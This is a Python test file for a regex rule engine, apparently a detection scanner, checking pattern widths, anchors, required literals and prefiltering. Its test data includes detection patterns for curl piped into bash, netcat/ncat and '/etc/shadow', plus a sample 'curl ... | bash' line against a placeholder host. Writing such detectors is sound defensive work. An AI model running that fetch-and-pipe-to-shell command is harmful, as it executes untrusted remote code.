"""Widths and sketches of patterns."""

from __future__ import annotations

import pytest

from vanguard.model.rule import Sketch
from vanguard.rules.automaton import EDGE
from vanguard.rules.literals import needs
from vanguard.rules.pattern import compiled
from vanguard.rules.rarity import share
from vanguard.rules.sieve import Sieve, Try
from vanguard.rules.sketch import chance, sketch
from vanguard.rules.syntax import UNBOUNDED
from vanguard.rules.width import at_start, sees_edges, widest

WIDTHS = [
    *(("abc", 3), (r"\babc\b", 3), ("^abc$", 3), ("a|bcd|ef", 3), ("(a|bcd)e", 4), ("a?b", 2), ("a{3}", 3)),
    *(("a{1,5}", 5), ("(?:ab){2,4}", 8), ("a*", UNBOUNDED), ("ab+", UNBOUNDED), ("(a{2,}b){3}", UNBOUNDED)),
    *(
        ("[abc]{2}", 2),
        ("[]a]", 1),
        ("[^]a]b", 2),
        (r"[\]a]{3}", 3),
        ("[[:alpha:]]{4}", 4),
        (r"\x41\x{1F600}", 2),
    ),
    *(
        (r"\pL\p{Greek}", 2),
        (r"\Qa.b\E{2}", 4),
        (r"\Qa.b", 3),
        ("(?i)abc", 3),
        ("(?i:ab)c", 3),
        ("(?P<n>ab)", 2),
    ),
    *(
        (r"\.\.\/", 3),
        (r"\101", 1),
        ("a{,3}", 5),
        ("a{0}", 0),
        (r"[a\-z]{2}", 2),
        ("a??b", 2),
        ("(?:a{2}){3}", 6),
    ),
    *((".{0,9}", 9), (r"\\{2}", 2), (r"[^\n]{1,7}x", 8), ("", 0)),
]


@pytest.mark.parametrize(("pattern", "width"), WIDTHS)
def test_a_pattern_is_as_wide_as_its_widest_match(pattern: str, width: int) -> None:
    compiled(pattern)
    assert widest(pattern) == width


@pytest.mark.parametrize(
    ("pattern", "seen"),
    [
        (r"\Aab", True),
        (r"ab\z", True),
        ("(?-m)^a", True),
        ("(?i-s:a)", True),
        (r"\\A", False),
        (r"\(?-a", False),
    ],
)
def test_only_operators_see_edges(pattern: str, seen: bool) -> None:
    assert sees_edges(pattern) is seen


FOUND = [
    (r"(?i)\bcurl\s[^|\n]{1,120}\|\s{0,5}(ba|z)?sh\b", "x CURL -s http://e.example | bash"),
    (r"(?:abc|def)+ghi", "defabcghi"),
    (r"\Qa.b*c\E", "a.b*c"),
    (r"(?i)kiss", "\u212aiſs"),
    (r"(?i:ab)cd(?:ef){2,3}gh?", "ABcdefefefg"),
    (r"a{0}bcd", "bcd"),
    (r"[ab]cde|\x66oo", "foo"),
]


@pytest.mark.parametrize(("pattern", "text"), FOUND)
def test_a_sketch_asks_for_nothing_that_a_match_lacks(pattern: str, text: str) -> None:
    assert compiled(pattern).search(text.encode())
    assert sketch(pattern).groups
    assert Sieve([Try(0, sketch(pattern))]).possible(text) == [0]


def test_a_sketch_keeps_what_tells_texts_apart() -> None:
    sieve = Sieve([Try(0, Sketch("curl.*(?:ba|z)sh", (("curl",), ("bash", "zsh")), 9, False))])
    assert not sieve.possible("the curl of the hair")
    assert sieve.possible("CURL x and bash")


@pytest.mark.parametrize(
    ("pattern", "groups"),
    [
        ("ab[cd]e", [{"abce", "abde"}]),
        (r"x\.(?:exe|dll)\w+yy", [{"x.exe", "x.dll"}, {"yy"}]),
        (r"(?:abc|def\d+ghi)", [{"abc", "ghi"}, {"abc", "def"}]),
        (r"\bnc\b|ncat", [{EDGE + "nc" + EDGE, "ncat"}]),
        ("colou?r", [{"color", "colour"}]),
        ("[a-d]x{3}y", [{"axxxy", "bxxxy", "cxxxy", "dxxxy"}]),
        (r"[\w]x*", []),
        ("abc|[^x]", []),
        (r"(?i)\x41\102\Q.c", [{"ab.c"}]),
    ],
)
def test_the_literals_that_a_pattern_needs(pattern: str, groups: list[set[str]]) -> None:
    compiled(pattern)
    assert sorted(map(sorted, needs(pattern))) == sorted(map(sorted, groups))


@pytest.mark.parametrize(
    ("pattern", "starts"),
    [
        ("^ab", True),
        ("(?i)^ab", True),
        ("^a|^b", True),
        ("(?:^a|^b)c", True),
        ("^a|b", False),
        ("(?m)^a", False),
        ("^?a", False),
        ("a^", False),
    ],
)
def test_patterns_that_match_only_where_a_text_begins_are_known(pattern: str, starts: bool) -> None:
    compiled(pattern)
    assert at_start(pattern) is starts


def test_rare_words_and_signs_are_rarer_than_common_ones() -> None:
    assert share("the ") > share("note") > share("netcat") > share("/etc/shadow")
    assert share("nc") > share(EDGE + "nc" + EDGE)
    assert chance(r"\w{9}") == 1.0
